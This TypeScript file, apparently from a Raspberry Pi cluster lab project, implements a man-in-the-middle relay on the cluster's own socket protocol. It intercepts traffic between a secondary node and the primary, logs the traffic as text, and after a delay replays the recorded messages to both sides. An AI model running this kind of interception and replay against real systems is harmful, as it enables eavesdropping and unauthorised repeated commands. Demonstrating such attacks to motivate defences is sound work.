/** Somebody in the middle: passes on what a secondary and the primary say, records it, and says it again. */
import { setTimeout as sleep } from 'node:timers/promises'
import { loadJsonConfig } from '@rpi-cluster/core/json-config'
import { stopSignal } from '@rpi-cluster/core/lifecycle'
import { createLogger } from '@rpi-cluster/core/logging'
import { type Connection, connect, listen } from '@rpi-cluster/core/sockets'
import { config } from './config.ts'

const stop = stopSignal()
const log = createLogger('attack')
const { attack: own, secondary } = loadJsonConfig(config, ['attack', 'secondary'], log)
const primary = { peer: 'primary', host: secondary.primaryIp, port: secondary.socketPort, stop }

const middle = await listen({ peer: 'secondary', host: '127.0.0.1', port: own.port, stop, log }, inTheMiddle)
log.info(`Whoever connects to ${middle.address} speaks to the primary through here`)

async function inTheMiddle(victim: Connection) {
  const connection = await connect(primary)
  const [said, answers]: [Buffer[], Buffer[]] = [[], []]
  playBack(victim, said, answers).catch(({ message }: Error) => stop.aborted || log.warn(message))
  await Promise.race([
    passOn(victim, connection, (piece) => {
      said.push(piece)
      show('The secondary says', piece)
    }),
    passOn(connection, victim, (piece) => {
      answers.push(piece)
      show('The primary says', piece)
    }),
  ])
  await connection.close()
}

async function passOn(from: Connection, to: Connection, record: (piece: Buffer) => void) {
  for await (const piece of from.chunks()) {
    record(piece)
    await to.write(piece)
  }
}

async function playBack(victim: Connection, said: readonly Buffer[], answers: readonly Buffer[]) {
  await sleep(own.afterSeconds * 1000, undefined, { signal: stop })
  const last = answers.at(-1) ?? Buffer.of()
  show('Saying again, to the secondary', last)
  await victim.write(last)
  const again = await connect(primary)
  for (const piece of [...said]) {
    show('Saying again, to the primary', piece)
    await again.write(piece)
  }
  for await (const piece of again.chunks()) show('The primary answers', piece)
  log.info('The primary has closed the connection')
}

/** What can be read of it, as `hexdump -C` shows that: a dot for what is no letter, digit or sign. */
function show(what: string, piece: Buffer) {
  const letters = piece.toString('latin1').replace(/[^ -~]/g, '.')
  log.info(`${what}: ${piece.length} bytes, ${letters.slice(0, 230)}`)
}
